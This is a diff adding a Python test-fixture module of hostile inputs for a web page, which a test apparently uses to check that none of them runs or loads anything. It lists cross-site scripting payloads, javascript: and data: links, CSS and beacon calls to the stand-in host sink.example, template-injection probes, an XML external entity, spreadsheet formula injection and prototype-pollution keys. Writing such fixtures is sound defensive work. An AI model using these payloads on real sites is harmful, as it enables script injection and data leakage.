@@ -1,0 +1,240 @@
+"""What someone may write into a name, a title, an outlet or a sentence to make a page run, load or look otherwise.
+
+Where a string tries to run, it sets `window.ran`; where it tries to load, it asks `sink.example`, in whose place a test
+puts an address of its own that listens.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = (
+    "<script>window.ran = 1</script>",
+    "</script><script>window.ran = 1</script>",
+    "</SCRIPT\t><ScRiPt>window.ran = 1</sCrIpT >",
+    "<script/x>window.ran=1</script>",
+    "<script src=https://sink.example/s.js></script>",
+    "<script type=module>import 'https://sink.example/m.js'</script>",
+    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
+    "<script\x0b>window.ran=1</script\x0c>",
+    "\ufeff<script>window.ran=1</script>",
+    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
+    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
+    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
+    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e \\",
+    "＜script＞window.ran=1＜/script＞",
+    "window.ran=1",
+    "'; window.ran = 1; //",
+    '"; window.ran = 1; //',
+    "`${window.ran = 1}`",
+    "\\'; window.ran = 1; //",
+    "});window.ran=1;({",
+    "\u2028window.ran=1\u2029",
+    '","x":window.ran=1,"',
+    "eval('window.ran=1')",
+    "import('https://sink.example/i.js')",
+    "fetch('https://sink.example/f')",
+    "new Image().src='https://sink.example/n'",
+    "navigator.sendBeacon('https://sink.example/b')",
+)
+
+HANDLERS = (
+    "<img src=x onerror=window.ran=1>",
+    "<img src=https://sink.example/i.png>",
+    "<img srcset='https://sink.example/set 2x'>",
+    "<body onload=window.ran=1>",
+    "<svg onload=window.ran=1>",
+    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
+    "<svg><script>window.ran=1</script></svg>",
+    "<svg><use href='https://sink.example/u.svg#a'/></svg>",
+    "<svg><image href='https://sink.example/i.svg'/></svg>",
+    "<svg><a xlink:href='javascript:window.ran=1'><text y=20>bấm</text></a></svg>",
+    "<svg><foreignObject><iframe src='javascript:parent.ran=1'></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
+    "<math href='javascript:window.ran=1'><mi>x</mi></math>",
+    "<details open ontoggle=window.ran=1>",
+    "<input autofocus onfocus=window.ran=1>",
+    "<video><source onerror=window.ran=1></video>",
+    "<audio src=https://sink.example/a.ogg autoplay>",
+    "<marquee onstart=window.ran=1>",
+    "<div onpointerover=window.ran=1 style=position:fixed;inset:0>",
+    '" onmouseover="window.ran=1" x="',
+    "' onfocus='window.ran=1' autofocus x='",
+    "onload=window.ran=1",
+    "\"><iframe srcdoc='<script>parent.ran=1</script>'>",
+    "<iframe src=https://sink.example/frame></iframe>",
+    "<object data=https://sink.example/o></object>",
+    "<embed src=https://sink.example/e>",
+    "<form action=https://sink.example/form><button>gửi</button></form>",
+    "<a href='javascript:window.ran=1'>bấm</a>",
+    "<a href=https://sink.example/a ping=https://sink.example/ping>bấm</a>",
+    "<base href=https://sink.example/>",
+    "<meta http-equiv=refresh content='0;url=https://sink.example/'>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+    "<link rel=stylesheet href=https://sink.example/a.css>",
+    "<link rel=prefetch href=https://sink.example/p>",
+    "<link rel=dns-prefetch href=//sink.example>",
+    "<template><script>window.ran=1</script></template>",
+    "<portal src=https://sink.example/portal>",
+    "<x-element is=script>window.ran=1</x-element>",
+    "<title></title><script>window.ran=1</script>",
+    "<textarea></textarea><img src=x onerror=window.ran=1>",
+    "<plaintext>",
+    "</div></article></main></body></html>",
+    "<div id=data>{}</div>",
+    "<a id=given><a id=given name=texts>",
+)
+
+ADDRESSES = (
+    "javascript:window.ran=1",
+    "JaVaScRiPt:window.ran=1",
+    "java\tscript:window.ran=1",
+    "data:text/html,<script>window.ran=1</script>",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>",
+    "vbscript:msgbox(1)",
+    "blob:https://sink.example/1",
+    "https://sink.example/thật-không",
+    "//sink.example/x",
+    "\\\\sink.example\\share",
+    "file:///etc/passwd",
+)
+
+STYLES = (
+    "<style>*{background:url(https://sink.example/b)}</style>",
+    "</style><style>@import 'https://sink.example/c.css';</style>",
+    "<p style='background:url(https://sink.example/d)'>",
+    "*/}body{display:none}/*",
+    "url(https://sink.example/e)",
+    "red;background:url(//sink.example/f)",
+    "expression(window.ran=1)",
+    "-moz-binding:url(https://sink.example/g)",
+    "\\3c script\\3e",
+)
+
+TEMPLATES = (
+    "${window.ran=1}",
+    "$data $policy $program $style $$",
+    "${data}${policy}",
+    "{{7*7}}",
+    "{{constructor.constructor('window.ran=1')()}}",
+    "{% raw %}{% include 'x' %}",
+    "{# lời bàn #}",
+    "<%= 7*7 %>",
+    "<?php echo 7*7; ?>",
+    "<?xml-stylesheet href='https://sink.example/x.xsl'?>",
+    "#{7*7} *{7*7} @{7*7} ~{7*7}",
+    "[[${7*7}]] th:text",
+    "{count} {value} {name} {nodes} {__proto__}",
+    "%s %d %(name)s %n %x",
+    "{0} {0.__class__.__init__.__globals__}",
+    "$1 $& $` $' $<name>",
+    "{nodes!r:>1000000}",
+)
+
+MARKUP = (
+    "<!--<script>",
+    "--><script>window.ran=1</script><!--",
+    "--!><img src=x onerror=window.ran=1>",
+    "<![CDATA[<script>window.ran=1</script>]]>",
+    "]]><img src=x onerror=window.ran=1>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://sink.example/e'>]>&e;",
+    "&lt;script&gt;window.ran=1&lt;/script&gt;",
+    "&amp;lt;&#60;&#x3c;&lt&NotANewline;",
+    "<b>đậm</b> & \"ngoặc\" 'đơn'",
+    "<",
+    "&",
+    "</",
+    "<!",
+)
+
+LOOKS = (
+    "\u202eđảo ngược\u202c \u2066cách ly",
+    "\u2067\u2068\u2069\u200f\u200e\u061cphải sang trái",
+    "שלום عربي chữ lẫn",
+    "\u200b\u200c\u200d\u2060vô hình\ufeff",
+    "\u0000\u0007chuông\u001b[31m\u009b",
+    "a\u0000<script>window.ran=1</script>",
+    "\ufdd0 không là chữ",
+    "Z̸̡̢̛͚̗̟̈́̍̌a̵͓͒l̶̙̿g̵͔̈́o",
+    "𝕷ê 𝕿𝖍ị 👩🏽‍🔬👨‍👩‍👧‍👦",
+    "đ" * 3000,
+    "Từ " * 700,
+    "<i>" * 500,
+    "\n\n\nxuống\r\ndòng\t\tcột",
+    "     ",
+)
+
+TABLES = (
+    '=HYPERLINK("https://sink.example/h","bấm")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    '",=1+1,"',
+    '"\r\n=1+1,"',
+    "=1;=2\n=3",
+    "'=1+1",
+)
+
+PROTOTYPES = (
+    "__proto__",
+    "constructor",
+    "prototype",
+    "toString",
+    "hasOwnProperty",
+    "__defineGetter__",
+    "valueOf",
+    "null",
+    "undefined",
+    "NaN",
+    "length",
+    "then",
+)
+
+HOSTILE = (*SCRIPTS, *HANDLERS, *ADDRESSES, *STYLES, *TEMPLATES, *MARKUP, *LOOKS, *TABLES, *PROTOTYPES)
+
+NOT_XML = "\ufffe\uffff không là chữ"
+"""What HTML and JSON can hold and XML cannot, so that one name would make a whole file unreadable."""
+
+HOSTILE_LINKS = (
+    "javascript:window.ran=1",
+    "JaVaScRiPt:window.ran=1",
+    "\tjavascript:window.ran=1",
+    "java\nscript:window.ran=1",
+    "data:text/html,<script>window.ran=1</script>",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "//sink.example/x",
+    "https://",
+    'https://sink.example/"onmouseover=window.ran=1',
+    "https://[half",
+    "http://a b",
+    "https://bao.example/\u202egpj.exe",
+)
+"""Addresses that no link may lead to."""
+
+HOSTILE_FRAGMENTS = (
+    "view=near&at=person/99999",
+    "view=path&at=person/00000",
+    "view=group&group=99",
+    "view=core",
+    "view=__proto__&at=__proto__&chosen=constructor",
+    "__proto__=1&constructor=1&__proto__[ran]=1&toString=x",
+    "hidden=__proto__,constructor,,,&grown=__proto__,toString",
+    "hops=-1&hops=1e9&hops=0x1&hops=NaN&hops=99999",
+    "sure=101&sure=-5&sure=Infinity&sure=1.5",
+    "since=2017-13&until=99999-01",
+    "since=%FF&until=%00&at=%E0%A4%A",
+    "province=<script>window.ran=1</script>&role=%3Cimg+src%3Dx+onerror%3Dwindow.ran%3D1%3E",
+    "chosen=<img src=https://sink.example/i onerror=window.ran=1>",
+    "javascript:window.ran=1",
+    "&&&===%%%",
+    "?#/../..//\\",
+    "undated=<b>&coloured=url(https://sink.example/c)",
+    "x" * 1_000_000,
+    "chosen=" + "%3Cscript%3E" * 8_000,
+    "&".join(f"at{i}=1" for i in range(5_000)),
+)
+"""Ends of an address that tell nothing true: a page shows what it shows without them."""
